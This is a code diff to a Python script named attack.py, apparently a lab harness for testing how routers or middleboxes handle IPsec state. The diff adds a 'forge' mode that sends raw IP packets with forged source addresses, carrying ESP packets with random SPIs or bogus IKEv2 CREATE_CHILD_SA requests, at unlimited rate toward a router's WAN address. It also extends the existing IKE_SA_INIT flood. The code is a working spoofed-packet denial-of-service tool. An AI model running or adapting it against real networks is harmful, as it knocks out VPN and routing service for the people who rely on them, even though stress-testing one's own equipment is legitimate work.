@@ -10,7 +10,7 @@ seconds under TCG). Every mode prints one line of what it sent and exits 0.
       raw ESP (IP protocol 50): SPI, sequence number and junk in place of a
       payload. --spread N: destinations ADDR, ADDR+1, ... ADDR+N-1 in turn;
       --new-spi: SPI, SPI+1, ... (a new SA on every packet).
-  attack.py ike-init --dst ADDR [--spread N] --count N [--rate PPS]
+  attack.py ike-init --dst ADDR [--spread N] [--rate PPS] (--count N | --duration S)
       IKEv2 IKE_SA_INIT requests (RFC 7296 3.1 headers, opaque payload) from
       UDP port 500, each with a new random initiator SPI: a new IKE SA for a
       middlebox that learns IKE SAs from the LAN host's first message.
@@ -19,6 +19,13 @@ seconds under TCG). Every mode prints one line of what it sent and exits 0.
       then a CREATE_CHILD_SA request with a new message ID every S seconds on
       that IKE SA, with a responder SPI the peer never issued: a real peer
       drops them and never answers; the attacker needs no answer.
+
+  attack.py forge --kind esp|ike-child --dst ADDR --src ADDR [--src-spread N]
+                  [--rate PPS] (--count N | --duration S)
+      what anyone on the internet can send to the router's WAN address, with
+      a forged source (ADDR, ADDR+1, ... ADDR+N-1 in turn; IP_HDRINCL): ESP
+      with a new random SPI each, or IKEv2 CREATE_CHILD_SA requests on UDP
+      500 naming a new random IKE SA each.
 
 --rate 0 (the default for floods) sends as fast as the socket takes them;
 when the stack pushes back (ENOBUFS) it waits a little and sends again, so
@@ -115,7 +122,7 @@ def ike_init(a):
     s = ike_socket()
     dsts = destinations(a.dst, a.spread)
     body = payload(os.urandom(40))
-    p = Pace(a.rate, a.count, None)
+    p = Pace(a.rate, a.count, a.duration)
     while p.next():
         i = p.n - 1
         pkt = ike_header(secrets.randbits(64) | 1, 0, NP_SA, IKE_SA_INIT, FLAG_I, 0, body)
@@ -142,6 +149,27 @@ def child_hog(a):
         time.sleep(a.interval)
 
 
+def forge(a):
+    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)  # IP_HDRINCL
+    srcs = destinations(a.src, a.src_spread)
+    dst = socket.inet_aton(a.dst)
+    p = Pace(a.rate, a.count, a.duration)
+    while p.next():
+        i = p.n - 1
+        if a.kind == "esp":
+            proto, body = socket.IPPROTO_ESP, struct.pack("!II", secrets.randbits(32) | 0x100, 1) + os.urandom(48)
+        else:
+            ike = ike_header(secrets.randbits(64) | 1, secrets.randbits(64) | 1, NP_SK, CREATE_CHILD_SA,
+                             FLAG_I, 2, payload(os.urandom(64)))
+            proto, body = socket.IPPROTO_UDP, struct.pack("!HHHH", 500, 500, 8 + len(ike), 0) + ike
+        # RFC 791 header; the kernel fills in the checksum (and an ID when 0)
+        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 0, 0, 64, proto, 0,
+                         socket.inet_aton(srcs[i % len(srcs)]), dst)
+        send(s, ip + body, (a.dst, 0))
+    print("attack: forge: %d %s packets to %s from %d source(s) in %.1fs"
+          % (p.n, a.kind, a.dst, len(srcs), p.elapsed()), flush=True)
+
+
 def main():
     ap = argparse.ArgumentParser()
     sub = ap.add_subparsers(dest="cmd", required=True)
@@ -157,14 +185,25 @@ def main():
     i = sub.add_parser("ike-init")
     i.add_argument("--dst", required=True)
     i.add_argument("--spread", type=int, default=1)
-    i.add_argument("--count", type=int, required=True)
     i.add_argument("--rate", type=float, default=0)
+    g = i.add_mutually_exclusive_group(required=True)
+    g.add_argument("--count", type=int)
+    g.add_argument("--duration", type=float)
     h = sub.add_parser("child-hog")
     h.add_argument("--peer", required=True)
     h.add_argument("--interval", type=float, required=True)
     h.add_argument("--duration", type=float, required=True)
+    f = sub.add_parser("forge")
+    f.add_argument("--kind", choices=("esp", "ike-child"), required=True)
+    f.add_argument("--dst", required=True)
+    f.add_argument("--src", required=True)
+    f.add_argument("--src-spread", type=int, default=1)
+    f.add_argument("--rate", type=float, default=0)
+    g = f.add_mutually_exclusive_group(required=True)
+    g.add_argument("--count", type=int)
+    g.add_argument("--duration", type=float)
     a = ap.parse_args()
-    {"esp": esp, "ike-init": ike_init, "child-hog": child_hog}[a.cmd](a)
+    {"esp": esp, "ike-init": ike_init, "child-hog": child_hog, "forge": forge}[a.cmd](a)
     return 0
 
 
